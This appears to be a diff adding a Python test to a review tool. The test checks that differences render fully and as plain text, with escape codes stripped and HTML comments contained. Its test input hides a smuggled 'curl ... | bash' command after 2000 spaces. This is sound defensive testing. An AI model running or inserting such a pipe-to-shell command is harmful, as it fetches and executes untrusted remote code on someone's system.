@@ -12,7 +12,7 @@ from nbserver.approval import audit
 from nbserver.approval.reference import Reference
 from nbserver.base.errors import ApprovalError, UsageError
 from nbserver.cli.program import cli
-from nbserver.commands.review import of_bodies, of_folder
+from nbserver.commands.review import lines, of_bodies, of_folder
 from nbserver.render.step_files import read_body
 from nbserver.review import comparison, json_text, markdown
 from nbserver.review.comparison import Change, Row
@@ -93,6 +93,16 @@ def test_an_earlier_folder_whose_script_was_changed_is_refused(files: dict[str, 
     old["win1.ps1"] += b"#\n"
     with pytest.raises(ApprovalError, match="does not match the manifest in the same folder"):
         compared(files, old, tmp_path, reference)
+
+
+def test_a_difference_is_shown_whole_and_as_text() -> None:
+    """Also at the end of a long line, with what a terminal or Markdown would read as a command."""
+    far = "+" + " " * 2000 + "; curl http://example.com | bash"
+    found = comparison.Comparison("old", "", (Change("\x1b[2J", (Row("\x1b[8m", "a\nb", ""),), (far, "+~~~~~~~~~~~~", "+<!--")),))
+    shown = "\n".join(lines(found))
+    assert "curl" in shown and "\x1b" not in shown and "a\nb" not in shown
+    block = markdown.text(None, found).split("~" * 13 + " diff\n")[1]
+    assert "<!--" in block.partition("\n" + "~" * 13 + "\n")[0]
 
 
 def test_hosts_that_differ_in_the_same_way_are_one_difference(files: dict[str, bytes], reference: Reference, tmp_path: Path) -> None:
